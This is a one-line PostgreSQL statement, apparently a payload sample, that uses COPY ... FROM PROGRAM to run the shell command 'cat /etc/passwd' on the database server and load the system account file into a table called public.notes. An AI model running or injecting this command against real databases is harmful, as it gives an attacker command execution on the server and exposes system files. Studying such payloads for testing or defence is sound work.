COPY public.notes FROM PROGRAM 'cat /etc/passwd'
